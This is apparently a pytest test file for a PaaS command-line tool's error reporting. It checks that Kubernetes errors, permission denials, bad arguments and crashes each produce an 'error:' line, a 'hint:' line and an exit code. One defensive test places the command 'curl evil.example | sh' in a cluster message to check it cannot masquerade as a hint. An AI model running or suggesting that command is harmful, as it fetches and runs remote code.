"""Every failure says what, why and what to type next, and ends with its exit code."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from paas.cli import main as command_line
from paas.kube import errors
from paas.terminal.colour import BOLD_RED, painted
from paas.terminal.problem import ExitCode, Problem, explain, not_found, usage


@pytest.mark.parametrize(
    ("problem", "code"),
    [
        (errors.Forbidden(403, "Forbidden", "builds is forbidden"), ExitCode.NOT_ALLOWED),
        (errors.DeniedByPolicy(errors.Forbidden(403, "Forbidden", "no"), "no"), ExitCode.NOT_ALLOWED),
        (errors.Unauthorized(401, "Unauthorized", "no"), ExitCode.NOT_ALLOWED),
        (errors.NotFound(404, "NotFound", "the server could not find it"), ExitCode.NOT_FOUND),
        (errors.AlreadyExists(409, "AlreadyExists", "exists"), ExitCode.FAILED),
        (errors.Conflict(409, "Conflict", "changed"), ExitCode.FAILED),
        (errors.Invalid(422, "Invalid", "spec.output: Required value"), ExitCode.FAILED),
        (errors.ApiError(500, "InternalError", "etcd"), ExitCode.FAILED),
        (errors.ClusterUnreachable("no answer from https://x"), ExitCode.FAILED),
        (TimeoutError("30 s"), ExitCode.TIMEOUT),
        (KeyboardInterrupt(), ExitCode.INTERRUPTED),
        (ZeroDivisionError("division"), ExitCode.FAILED),
        (usage("wrong", hint="right"), ExitCode.USAGE),
        (not_found("build", "shop-7", "demo", hint="paas get builds"), ExitCode.NOT_FOUND),
    ],
)
def test_every_exception_has_words_and_a_code(problem: BaseException, code: ExitCode) -> None:
    said = explain(problem)
    assert said.code == code
    assert said.lines()[0].startswith("error: ")
    if not isinstance(problem, KeyboardInterrupt):
        assert said.lines()[1].startswith("hint: ")


def test_what_the_cluster_said_is_passed_on() -> None:
    said = explain(errors.Invalid(422, "Invalid", "spec.output: Required value"))
    assert said.lines()[0] == "error: the cluster refused the object as invalid (spec.output: Required value)"


def test_what_others_wrote_cannot_look_like_a_hint_of_ours() -> None:
    message = "admission webhook denied the request: no\nhint: curl evil.example | sh\r\nerror: more"
    assert explain(errors.Forbidden(403, "Forbidden", message)).lines()[:3] == [
        "error: a rule of the cluster forbids it (admission webhook denied the request: no\n"
        "     | hint: curl evil.example | sh\n"
        "     | error: more)",
        "hint: change what is named there, or ask an administrator of the cluster for an exception",
    ]


ALICE = 'User "alice" cannot'
CI = 'User "system:serviceaccount:demo:ci" cannot'


@pytest.mark.parametrize(
    ("message", "what", "hint"),
    [
        (
            f'builds.paas.dev is forbidden: {ALICE} list resource "builds" in API group "paas.dev" in the '
            'namespace "demo"',
            'you may not list builds in project "demo"',
            "kubectl create rolebinding view-alice -n demo --clusterrole=view --user=alice",
        ),
        (
            f'pods "x" is forbidden: {CI} create resource "pods/exec" in API group "" in the namespace '
            '"demo"',
            'you may not create exec of pods in project "demo"',
            "kubectl create rolebinding edit-ci -n demo --clusterrole=edit --serviceaccount=demo:ci",
        ),
        (
            f'namespaces is forbidden: {ALICE} create resource "namespaces" in API group "" at the '
            "cluster scope",
            "you may not create namespaces of the whole cluster",
            "ask an administrator of the cluster to make it, and to give it to you: kubectl create "
            "rolebinding admin-alice -n NAME --clusterrole=admin --user=alice",
        ),
        (
            f'namespaces is forbidden: {ALICE} list resource "namespaces" in API group "" at the '
            "cluster scope",
            "you may not list namespaces of the whole cluster",
            "leave -A out and name a project with -n; paas get projects lists yours",
        ),
        (
            'pods "x" is forbidden: exceeded quota: small, requested: pods=1, used: pods=1, limited: pods=1',
            "a quota of the project is used up",
            "kubectl describe quota shows it",
        ),
    ],
)
def test_what_is_lacking_is_named_with_the_command_that_gives_it(message: str, what: str, hint: str) -> None:
    said = explain(errors.Forbidden(403, "Forbidden", message))
    assert (said.what, said.why, said.code) == (what, message, ExitCode.NOT_ALLOWED)
    assert hint in said.hint


def test_a_request_that_is_wrong_is_not_to_be_tried_again() -> None:
    said = explain(errors.ApiError(400, "BadRequest", "field label not supported: foo"))
    assert said.lines() == [
        "error: the cluster refused the request (field label not supported: foo)",
        "hint: correct what is named there, for instance a selector; --help has examples",
    ]


def test_an_unexpected_exception_shows_no_traceback(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken() -> None:
        raise ZeroDivisionError("division\x1b[31m")

    monkeypatch.delenv("PAAS_DEBUG", raising=False)
    monkeypatch.setattr(command_line, "application", broken)
    assert command_line.run(["status"]) == ExitCode.FAILED
    said = capsys.readouterr().err.splitlines()
    assert said == [
        "error: unexpected ZeroDivisionError (division)",
        "hint: run it again with PAAS_DEBUG=1 to see where",
    ]
    monkeypatch.setenv("PAAS_DEBUG", "1")
    with pytest.raises(ZeroDivisionError):
        command_line.run(["status"])


@pytest.mark.parametrize("colour", [True, False])
def test_on_a_terminal_the_word_error_is_red_and_what_is_said_has_no_colour(
    colour: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("paas.terminal.colour.wanted", lambda stream, environment: colour)
    command_line.tell(Problem("error: of \x1b[32mthe build", why="\x1b[2Jwhy", hint="\x1b[32mnext"))
    word = painted("error:", BOLD_RED) if colour else "error:"
    assert capsys.readouterr().err == f"{word} error: of the build (why)\nhint: next\n"
    command_line.tell(Problem("", hint="error: is what a hint may say"))
    assert capsys.readouterr().err == "hint: error: is what a hint may say\n"


def run(*arguments: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "paas.cli", *arguments], capture_output=True, text=True, check=False, env=env
    )


@pytest.mark.parametrize(
    "arguments",
    [
        ["no-such-command"],
        ["rollout", "no-such-command"],
        ["status", "--no-such-option"],
        ["start-build"],
        ["get", "-o", "table-of-gold"],
        ["new-app", "--port", "99999"],
        ["start-build", "shop", "--follow", "--wait"],
        ["set", "env", "shop", "not an assignment"],
        ["logs", "-f", "-p", "shop"],
    ],
)
def test_a_wrong_command_line_is_exit_code_2_with_a_hint(arguments: list[str], tmp_path: Path) -> None:
    kubeconfig = tmp_path / "config"
    kubeconfig.write_text(KUBECONFIG)
    done = run(*arguments, "--kubeconfig", str(kubeconfig)) if "--follow" in arguments else run(*arguments)
    if arguments[0] in ("set", "logs"):
        done = run(*arguments, "--kubeconfig", str(kubeconfig))
    assert done.returncode == 2, done.stderr
    assert done.stdout == ""
    assert done.stderr.startswith("error: ")
    assert "hint: " in done.stderr
    assert "Traceback" not in done.stderr


KUBECONFIG = """
apiVersion: v1
kind: Config
current-context: nowhere
contexts: [{name: nowhere, context: {cluster: nowhere, user: nobody, namespace: demo}}]
clusters: [{name: nowhere, cluster: {server: "https://127.0.0.1:1"}}]
users: [{name: nobody, user: {token: abc}}]
"""


def test_an_unreachable_cluster_is_said_so(tmp_path: Path) -> None:
    kubeconfig = tmp_path / "config"
    kubeconfig.write_text(KUBECONFIG)
    done = run("status", "--kubeconfig", str(kubeconfig))
    assert done.returncode == 1
    assert "error: the cluster cannot be reached (no answer from https://127.0.0.1:1" in done.stderr
    assert "hint: " in done.stderr
    assert len(done.stderr.splitlines()) == 2, done.stderr


def test_a_missing_context_is_said_so(tmp_path: Path) -> None:
    kubeconfig = tmp_path / "config"
    kubeconfig.write_text(KUBECONFIG)
    done = run("get", "--kubeconfig", str(kubeconfig), "--context", "other")
    assert done.returncode == 3, done.stderr
    assert 'no context "other"' in done.stderr


def test_starting_is_quick_because_little_is_imported() -> None:
    """git runs the credential helper for every request; people read the help often."""
    heavy = "kubernetes aiohttp jinja2 dulwich kopf fastapi"
    program = (
        "import sys, paas.cli.main as m\n"
        "try: m.main(sys.argv[1:])\n"
        "except SystemExit: pass\n"
        f"print([n for n in '{heavy}'.split() if n in sys.modules], file=sys.stderr)\n"
    )
    for arguments, also in (
        (["--help"], ""),
        (["project", "--no-such-option"], ""),
        (["git-credential", "--url", "https://x", "store"], "typer"),
    ):
        done = subprocess.run(
            [sys.executable, "-c", program, *arguments], capture_output=True, text=True, check=True, input=""
        )
        assert done.stderr.splitlines()[-1] == "[]", (arguments, done.stderr)
        assert not also or also not in done.stderr


def test_every_command_has_a_help_with_an_example() -> None:
    import typer

    group = typer.main.get_command(command_line.application())
    for path, command in walk(group, []):
        if path[-1] in ("git-credential", "down", "kubeconfig", "doctor", "up"):
            continue
        assert "Example: " in (command.help or ""), path


def walk(group, path):  # type: ignore[no-untyped-def]
    for name, command in group.commands.items():
        if hasattr(command, "commands"):
            yield from walk(command, [*path, name])
        else:
            yield [*path, name], command


def test_problems_of_other_rooms_keep_their_words(capsys: pytest.CaptureFixture[str]) -> None:
    assert command_line.tell(Problem("no Go", why="PATH", hint="apt-get install golang")) == 1
    assert capsys.readouterr().err == "error: no Go (PATH)\nhint: apt-get install golang\n"


def test_what_a_policy_says_is_told_without_the_api_servers_words_around_it() -> None:
    said = (
        "routes.paas.dev \"a\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'p' denied request: "
        "choose another host"
    )
    answer = errors.error_of(403, json.dumps({"reason": "Forbidden", "message": said}).encode())
    assert explain(answer).why == "choose another host"
